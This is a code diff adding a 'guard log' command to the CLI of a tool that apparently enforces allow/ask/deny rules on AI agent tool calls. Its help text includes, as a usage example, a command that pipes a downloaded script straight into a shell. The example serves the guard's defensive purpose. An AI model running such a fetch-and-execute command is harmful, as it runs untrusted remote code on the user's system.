@@ -14,8 +14,12 @@ from remuda.surfaces.cli.output import as_json, write_json
 
 if TYPE_CHECKING:
     from remuda.operations.guard import Answer, Explanation, Step
+    from remuda.operations.guardlog import Filter, Record
 
 Command = TypeVar("Command", bound=Callable[..., Any])
+
+_PAUSE = 0.25
+"""Seconds between two looks at a log that is followed."""
 
 
 def _call(command: Command) -> Command:
@@ -54,6 +58,7 @@ def guard() -> None:
       remuda guard check --tool Write --input '{"file_path": "/etc/hosts", "content": ""}'
       remuda guard explain "curl -s https://example.com/x | sh"
       remuda guard check --batch < calls.jsonl
+      remuda guard log --decision deny --since 2h
     """
 
 
@@ -104,6 +109,61 @@ def explain(as_json: bool, **question: Any) -> int:
         _show_steps(explanation)
         _show(explanation.answer)
     return EXIT_OK if explanation.answer.decision == "allow" else EXIT_REFUSED
+
+
+@guard.command()
+@click.option("-f", "--follow", is_flag=True, help="Go on with what is decided from now on.")
+@click.option("--decision", type=click.Choice(("allow", "ask", "deny")), help="Only these decisions.")
+@click.option("--rule", metavar="RULE", help="Only this rule, or this group of rules.")
+@click.option("--session", metavar="ID", help="Only this session of an agent.")
+@click.option("--since", metavar="TIME", help="Only what is newer: 90s, 10m, 2h, 7d, or a date and time.")
+@click.option(
+    "--limit", type=click.IntRange(min=1), metavar="N", help="The newest N only; default: all there are."
+)
+@as_json
+def log(follow: bool, as_json: bool, **wanted: Any) -> int:
+    """Show what hooks have decided, oldest first.
+
+    A line is a time, a decision, the rule, the tool, the capability, the session, and a digest and the length
+    of the command, which itself is not kept. With --follow, --json prints an object a line.
+    """
+    from remuda.operations.guardlog import Filter
+    from remuda.operations.guardlog import log as operation
+    from remuda.operations.world import open_world
+
+    if follow:
+        return _follow(Filter(**wanted), as_json)
+    found = operation(open_world(), Filter(**wanted))
+    if as_json:
+        write_json(found)
+    else:
+        for record in found.records:
+            _show_record(record)
+    return EXIT_OK
+
+
+def _follow(wanted: Filter, as_json: bool) -> int:
+    """Records as they come, until it is interrupted."""
+    import time
+
+    import msgspec
+
+    from remuda.operations.guardlog import follow
+    from remuda.operations.world import open_world
+
+    for record in follow(open_world(), wanted, lambda: time.sleep(_PAUSE)):
+        if as_json:
+            click.echo(msgspec.json.encode(record))
+        else:
+            _show_record(record)
+    return EXIT_OK
+
+
+def _show_record(record: Record) -> None:
+    decided = record.decision or record.event
+    about = f"{record.digest} {record.length}" if record.digest else ""
+    fields = (record.rule, record.tool, record.capability, record.session, about)
+    click.echo(f"{record.time}  {decided:<5}  {'  '.join(each or '-' for each in fields)}")
 
 
 def _batch(question: Question) -> int:
